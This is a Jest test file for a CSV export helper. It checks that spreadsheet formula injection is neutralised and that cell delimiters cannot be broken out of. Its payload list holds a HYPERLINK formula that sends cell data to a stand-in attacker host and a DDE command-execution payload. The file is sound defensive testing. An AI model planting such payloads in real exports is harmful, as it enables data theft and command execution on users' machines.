import { createServer } from 'node:http';
import express from 'express';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { sendCsv } from '../../api/http/csv.js';
import { listen } from '../support/listen.js';

/** What an attacker would write into a field that reaches a spreadsheet. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example?"&A1;"clique")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
];

let rows: string[] = [];
const app = express();
app.get('/', async (_request, response) => {
  await sendCsv<string>(response, 'x.csv', { Texto: (row) => row, Depois: () => 'fim' }, rows);
});
const server = createServer(app);
let url: string;

beforeAll(async () => {
  url = await listen(server);
});
afterAll(() => void server.close());

async function fileOf(...texts: string[]): Promise<string> {
  rows = texts;
  const answer = await fetch(url);
  return answer.text();
}

/** The content of the first cell in the second line, without its quotes. */
function firstCell(file: string): string {
  const line = file.slice(file.indexOf('\r\n') + 2);
  if (!line.startsWith('"')) return line.slice(0, line.indexOf(';'));
  return /^"((?:[^"]|"")*)"/s.exec(line)?.[1]?.replaceAll('""', '"') ?? '';
}

test.each(FORMULAS)('a spreadsheet treats %j as text', async (formula) => {
  expect(firstCell(await fileOf(formula))).toBe(`'${formula}`);
});

test.each(['a;=1+1', 'a"\r\n=1+1', 'a\n=1+1', '";=1+1;"'])(
  'a text cannot end its cell to begin a formula: %j',
  async (text) => {
    const file = await fileOf(text);
    expect(firstCell(file)).toBe(text);
    expect(file.endsWith(';fim\r\n')).toBe(true);
  },
);

test.each(['Padaria Modelo', 'R$ 1.234,56', '12.345.678/0001-90', 'a=b', 'x-y'])(
  'a text that is not a formula is unchanged: %s',
  async (text) => {
    expect(firstCell(await fileOf(text))).toBe(text);
  },
);
